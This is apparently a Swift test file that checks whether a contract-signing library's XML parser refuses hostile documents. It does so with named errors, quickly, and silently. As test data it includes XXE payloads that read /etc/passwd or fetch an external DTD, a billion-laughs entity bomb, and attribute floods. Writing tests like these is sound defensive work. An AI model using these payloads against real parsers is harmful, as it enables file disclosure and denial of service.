import ContractKit
import Foundation
import Testing

#if canImport(Glibc)
    import Glibc
#endif

/// Hostile documents are refused with a named error, quickly, and without a word on stderr.
@Suite(.serialized) struct HostileInputTests {
    static let cases: [(name: String, bytes: [UInt8], expected: XMLParseError?)] = [
        (
            "XXE with a SYSTEM entity",
            Array(
                """
                <?xml version="1.0"?>
                <!DOCTYPE contract [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
                <contract>&xxe;</contract>
                """.utf8),
            .documentHasDoctype
        ),
        (
            "XXE through an external DTD over the network",
            Array(#"<!DOCTYPE contract SYSTEM "http://203.0.113.1/evil.dtd"><contract/>"#.utf8),
            .documentHasDoctype
        ),
        ("billion laughs", billionLaughs, .documentHasDoctype),
        ("a harmless DOCTYPE", Array("<!DOCTYPE contract><contract/>".utf8), .documentHasDoctype),
        ("malformed UTF-8", Array("<contract>".utf8) + [0xC3, 0x28] + Array("</contract>".utf8), .documentIsNotUTF8(byteOffset: 10)),
        ("an overlong UTF-8 encoding", Array("<a>".utf8) + [0xC0, 0xAF] + Array("</a>".utf8), .documentIsNotUTF8(byteOffset: 3)),
        ("not XML", Array("{\"contract\": true}".utf8), nil),
        ("an unclosed element", Array("<contract><a></contract>".utf8), nil),
        ("an empty document", [], nil),
        ("a NUL byte", Array("<a>".utf8) + [0] + Array("</a>".utf8), .documentHasNulByte(byteOffset: 3)),
        ("an undeclared namespace prefix", Array("<ds:Signature/>".utf8), nil),
        ("an undeclared entity", Array("<a>&xxe;</a>".utf8), nil),
        // The bytes are read as UTF-8 whatever the declaration says: one naming anything else is refused, however much
        // whitespace pushes its encoding back.
        (
            "a declared encoding other than UTF-8", Array(#"<?xml version="1.0" encoding="GBK"?><a/>"#.utf8),
            .documentDeclarationNotAccepted("version 1.0, encoding GBK")
        ),
        (
            "a declared encoding far into the declaration",
            Array(("<?xml version='1.0'" + String(repeating: " ", count: 300) + "encoding='ISO-8859-1'?><a/>").utf8),
            .documentDeclarationNotAccepted("version 1.0, encoding ISO-8859-1")
        ),
        ("XML 1.1", Array(#"<?xml version="1.1"?><a/>"#.utf8), .documentDeclarationNotAccepted("version 1.1")),
        (
            "a declaration longer than any real one",
            Array(("<?xml " + String(repeating: "version ", count: 8_000) + "?><a/>").utf8),
            .documentDeclarationNotAccepted("an XML declaration longer than 1024 bytes")
        ),
    ]

    /// Declarations that say what the parser does are fine, in either quotes and any case of UTF-8.
    @Test func aDeclarationOfXML10InUTF8IsAccepted() throws {
        for declaration in [
            #"<?xml version="1.0" encoding="UTF-8"?>"#, "<?xml version='1.0' encoding='utf-8' standalone='yes'?>",
            #"<?xml version = "1.0"?>"#, "",
        ] {
            _ = try XMLDocument.parse(Array((declaration + "<a/>").utf8))
        }
    }

    static let billionLaughs: [UInt8] = {
        var text = "<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n<!ENTITY lol \"lol\">\n"
        for level in 1...9 {
            let previous = level == 1 ? "lol" : "lol\(level - 1)"
            text += "<!ENTITY lol\(level) \"" + String(repeating: "&\(previous);", count: 10) + "\">\n"
        }
        text += "]>\n<lolz>&lol9;</lolz>"
        return Array(text.utf8)
    }()

    @Test func hostileDocumentsAreRefusedQuicklyWithNamedErrorsAndNothingOnStderr() throws {
        let output = try capturingStandardError {
            // Control: proves the capture sees what reaches file descriptor 2.
            FileHandle.standardError.write(Data("capture control\n".utf8))
            for hostile in Self.cases {
                let clock = ContinuousClock()
                let started = clock.now
                do {
                    _ = try XMLDocument.parse(hostile.bytes)
                    Issue.record("\(hostile.name) was accepted")
                } catch let error as XMLParseError {
                    if let expected = hostile.expected {
                        #expect(error == expected, "\(hostile.name)")
                    } else {
                        guard case .documentIsNotWellFormed(let diagnostic) = error else {
                            Issue.record("\(hostile.name): \(error)")
                            continue
                        }
                        #expect(!diagnostic.message.isEmpty, "\(hostile.name)")
                        #expect(diagnostic.line >= 1 || hostile.bytes.isEmpty, "\(hostile.name): \(diagnostic)")
                    }
                }
                #expect(clock.now - started < .seconds(1), "\(hostile.name) took too long")
            }
        }
        // Other suites' progress lines may land in the capture while it is open, so look for libxml2's own
        // report formats rather than demanding silence.
        let libxml2Lines = output.split(separator: "\n").filter {
            $0.contains("error :") || $0.contains("warning :") || $0.hasPrefix("Entity:") || $0.contains("I/O error")
        }
        #expect(output.contains("capture control"))
        #expect(libxml2Lines.isEmpty, "libxml2 wrote to stderr: \(libxml2Lines)")
    }

    @Test func malformedXMLReportsLineAndColumn() {
        let bytes = Array("<contract>\n  <a>\n  </b>\n</contract>".utf8)
        #expect {
            try XMLDocument.parse(bytes)
        } throws: { error in
            guard case .documentIsNotWellFormed(let diagnostic) = error as? XMLParseError else { return false }
            return diagnostic.line == 3 && diagnostic.column > 0 && diagnostic.message.contains("mismatch")
        }
    }

    @Test func aHundredMegabyteDocumentIsRefusedBySizeBeforeParsing() {
        var bytes = [UInt8](repeating: UInt8(ascii: "a"), count: 100 * 1024 * 1024)
        bytes.replaceSubrange(0..<3, with: Array("<a>".utf8))
        // The size error is the check before parsing's own.
        #expect(throws: XMLParseError.documentExceedsSizeLimit(byteCount: bytes.count, maxBytes: 1 << 20)) {
            try XMLDocument.parse(bytes)
        }
    }

    @Test func aDocumentJustUnderTheCapIsParsed() throws {
        let text = "<a>" + String(repeating: "x", count: (1 << 20) - 7) + "</a>"
        #expect(text.utf8.count == 1 << 20)
        _ = try XMLDocument.parse(Array(text.utf8))
    }

    /// libxml2's parser and exclusive C14N take time quadratic in the attributes of one element (12,000 in a 100 KB
    /// upload took a third of a second to parse): too many attributes or namespace declarations on an element, or too
    /// many elements, are refused on the bytes, before libxml2 reads them.
    @Test func manyAttributesOrElementsAreRefusedBeforeParsing() throws {
        func root(_ attribute: (Int) -> String, count: Int) -> [UInt8] {
            let attributes = (0..<count).map(attribute).joined(separator: " ")
            return Array(("<tg:contract xmlns:tg=\"urn:tuitionguard:contract:1\"\n" + attributes + "/>").utf8)
        }
        func elements(_ count: Int, text: String = "") -> [UInt8] {
            Array(("<a b=\"1\">" + text + String(repeating: "<b/>", count: count - 1) + "</a>").utf8)
        }
        let limit = XMLDocument.maxAttributesPerElement
        let tooMany = XMLParseError.documentExceedsAttributeLimit(line: 1, maxAttributes: limit)
        let refused: [(String, [UInt8], XMLParseError)] = [
            ("attributes", root({ "a\(String($0, radix: 36))=\"\"" }, count: 7_000), tooMany),
            // A `>` inside a value does not end the tag, nor does a new line.
            ("attributes whose values hold >", root({ "a\($0)='>'\n" }, count: 5_000), tooMany),
            ("namespace declarations", root({ "xmlns:n\($0)=\"urn:n\"" }, count: 3_000), tooMany),
            (
                "one too many attributes on the second line",
                Array(("<a>\n<b " + (0...limit).map { "a\($0)=\"\"" }.joined(separator: " ") + "/></a>").utf8),
                .documentExceedsAttributeLimit(line: 2, maxAttributes: limit)
            ),
            ("elements", elements(XMLDocument.maxElements + 1), .documentExceedsElementLimit(maxElements: XMLDocument.maxElements)),
        ]
        // Each refusal is the scan's own error, which only the scan before parsing throws (a wall-clock bound here
        // failed under the suite's load: speed belongs to benchmarks).
        for (name, bytes, expected) in refused {
            #expect(bytes.count <= 64 * 1024, "\(name) fits the API's body limit")
            #expect(throws: expected, "\(name)") { try XMLDocument.parse(bytes) }
        }
        // Up to the limits, and `=` inside values or text, are fine (the root's own declaration counts).
        _ = try XMLDocument.parse(root({ "a\($0)=\"x=y=z\"" }, count: limit - 1))
        _ = try XMLDocument.parse(elements(XMLDocument.maxElements, text: String(repeating: "=", count: 1_000)))
    }

    @Test func signingAndVerifyingRefuseHostileDocumentsToo() throws {
        let parties = Parties.shared
        let verifier = XMLSignatureVerifier(trustAnchor: parties.ca.certificate)
        #expect(throws: XMLParseError.documentHasDoctype) {
            try parties.institution[.ecdsaP256]!.sign(Self.billionLaughs)
        }
        #expect(throws: XMLParseError.documentHasDoctype) { try verifier.verify(Self.billionLaughs) }
    }
}

/// Runs `body` with file descriptor 2 pointed at a temporary file and returns what was written there.
func capturingStandardError(_ body: () throws -> Void) throws -> String {
    let url = FileManager.default.temporaryDirectory.appendingPathComponent("stderr-\(UUID().uuidString)")
    defer { try? FileManager.default.removeItem(at: url) }
    fflush(nil)
    let saved = dup(2)
    let file = open(url.path, O_WRONLY | O_CREAT | O_TRUNC, 0o600)
    precondition(saved >= 0 && file >= 0)
    dup2(file, 2)
    close(file)
    do {
        try body()
    } catch {
        fflush(nil)
        dup2(saved, 2)
        close(saved)
        throw error
    }
    fflush(nil)
    dup2(saved, 2)
    close(saved)
    return try String(contentsOf: url, encoding: .utf8)
}
